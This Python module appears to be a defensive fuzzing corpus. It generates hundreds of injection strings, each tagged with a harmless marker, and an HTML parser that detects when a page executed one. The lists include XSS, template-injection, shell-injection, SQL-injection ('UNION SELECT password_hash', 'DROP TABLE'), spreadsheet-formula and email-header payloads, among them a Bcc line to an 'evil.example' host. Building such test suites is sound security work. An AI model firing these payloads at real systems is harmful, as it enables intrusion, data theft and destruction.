"""Strings that break programs: how they are made, and how one tells that a page was broken.

Each carries the marker ``zqx`` where a browser, a template or a shell would act on it, so that a
page that let one through can be told from one that only shows it.
"""

from __future__ import annotations

import random
from html.parser import HTMLParser
from itertools import product

MARK = "zqx"

_MARKUP = (
    "<zqx>",
    "<zqx onload=zqx()>",
    "<script>zqx()</script>",
    "<img src=x onerror=zqx()>",
    "<svg/onload=zqx()>",
    "<a href='javascript:zqx()'>x</a>",
    "<iframe srcdoc='<zqx>'></iframe>",
    "<zqx/style='a:b'>",
    "<<zqx>>",
    "<zqx\n>",
    "<zqx\t/>",
    "<math><zqx></math>",
    "&lt;zqx&gt;<zqx>",
    "\u003czqx\u003e",
)
_BREAKOUTS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "-->",
    "]]>",
    "`",
    "\\",
    "}}",
    "%}",
)
_ATTRIBUTES = (
    '" zqx="1',
    "' zqx='1",
    '" onfocus=zqx() autofocus zqx="',
    "x onmouseover=zqx()",
    "javascript:zqx()",
    " javascript:zqx()",
    "java\tscript:zqx()",
    "data:text/html,<zqx>",
)
_LANGUAGES = (
    "{{ 'zqx' * 3 }}",
    "{% print 'zqx' * 3 %}",
    "${'zqx'*3}",
    "#{'zqx'*3}",
    "{{ config }}zqx",
    "{{ ''.__class__ }}zqx",
    "%(zqx)s",
    "%s%s%s%n zqx",
    "{zqx}",
    "{0.__class__}zqx",
    "$(touch zqx)",
    "`touch zqx`",
    "; ls #zqx",
    "| zqx",
    "../../../../etc/zqx",
    "..\\..\\zqx",
    "file:///zqx",
    "C:\\zqx\\",
)
_QUERIES = (
    "' OR '1'='1 zqx",
    "'; DROP TABLE firm; -- zqx",
    "\\' OR 1=1 -- zqx",
    "zqx' UNION SELECT password_hash FROM person --",
    '" OR ""="zqx',
    "zqx\\",
    "zqx\\\\",
    "zqx'",
    "zqx''",
    "O’Zqx",
    "O'zqx",
    "zqx%",
    "zqx_",
    "%zqx%",
    "zqx') OR ('1'='1",
    "zqx' ORDERBY Id MAXRESULTS 1000",
    "zqx AND Active IN (true, false)",
    "zqx\x00' OR 1=1",
)
_CELLS = ("=1+zqx", "+zqx", "-zqx", "@SUM(zqx)", "\t=zqx", "\r=zqx", "\x00=zqx", "=cmd|'/c zqx'!A0")
_LINES = (
    "zqx\r\nBcc: zqx@evil.example",
    "zqx\nSubject: zqx",
    "zqx\u2028{}",
    "zqx\u0085x",
    'zqx\n{"event": "signed_in"}',
    "zqx\x1b[31mred",
    "zqx\x08\x08",
)
_LETTERS = (
    "ẑ̴̧q̷̛x̸",
    "Ｚｑｘ",
    "zqx\u202etxt.exe",
    "\u200bzqx\u200d",
    "\ufeffzqx",
    "zqx\U0001f469\u200d\U0001f4bb",
    "zqx" + "\u0301" * 40,
    "ʎpoqᴉʇuɐ zqx",
    "田中さん zqx",
    "مرحبا zqx",
    "ﷺ zqx",
    "İıſß zqx",
    "zqx\U000e0041",
    "zqx\ud800",
    "\udfffzqx",
    "zqx\uffff",
    "zqx\x7f",
    "z" * 10_000 + "qx",
    "zqx " * 2_000,
)
_LOOKALIKES = (
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e309",
    "9" * 400,
    "0x10",
    "1,000.00",
    "1_000",
    "[]",
    "{}",
    "[object Object]",
    " ",
    "",
    "\t",
    "\u00a0",
    "\u3000",
    ".",
    "..",
    "/",
    "?",
    "#zqx",
    "&zqx=1",
    "a:b",
)


def every() -> list[str]:
    """All of them, in a fixed order: over 500."""
    broken_out = [f"{start}{markup}" for start, markup in product(_BREAKOUTS, _MARKUP)]
    plain = [*_ATTRIBUTES, *_LANGUAGES, *_QUERIES, *_CELLS, *_LINES, *_LETTERS, *_LOOKALIKES]
    surrounded = [f"Hale {text} & Sons" for text in (*_ATTRIBUTES, *_LANGUAGES, *_QUERIES)]
    doubled = [f"{text}{text}" for text in (*_MARKUP, *_QUERIES, *_LINES)]
    late = [
        f"{'x' * length}{text}" for length in (2, 18, 90, 490) for text in _MARKUP + _ATTRIBUTES
    ]
    upper = [text.upper().replace("ZQX", MARK) for text in (*_MARKUP, *_ATTRIBUTES, *_QUERIES)]
    quoted = [f'"{text}"' for text in (*_MARKUP, *_ATTRIBUTES, *_CELLS)]
    return list(dict.fromkeys([*broken_out, *plain, *surrounded, *doubled, *late, *upper, *quoted]))


def sample(number: int, seed: int) -> list[str]:
    """So many of them, by chance, and always the shortest of each danger."""
    chosen = ['"><zqx>', "</script><zqx>", "zqx\\", "O’Zqx", "zqx\ud800", "zqx\r\nBcc: z@e.example"]
    return chosen + random.Random(seed).sample(every(), number)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag in ("script", "style")
        if MARK in tag:
            self.found.append(f"<{tag}>")
        self.found += [f"<{tag} {name}={value}>" for name, value in attrs if _acts(name, value)]

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and MARK in data:
            self.found.append(f"script: {data[:60]}")
        if MARK * 3 in data:
            self.found.append(f"worked out: {data[:60]}")


def _acts(name: str, value: str | None) -> bool:
    text = "".join((value or "").split()).lower()
    leads = name in ("href", "src", "action", "formaction", "hx-get", "hx-post", "srcdoc")
    scheme = text.startswith(("javascript:", "data:text", "vbscript:"))
    return MARK in name or name.startswith("on") or (leads and (scheme or name == "srcdoc"))


def injected(page: str) -> list[str]:
    """What of the marker a browser would act on."""
    reader = _Page()
    reader.feed(page)
    reader.close()
    return reader.found


def cases(number: int | None) -> list[str]:
    """All, or a sample of so many."""
    return every() if number is None else sample(number, seed=8)
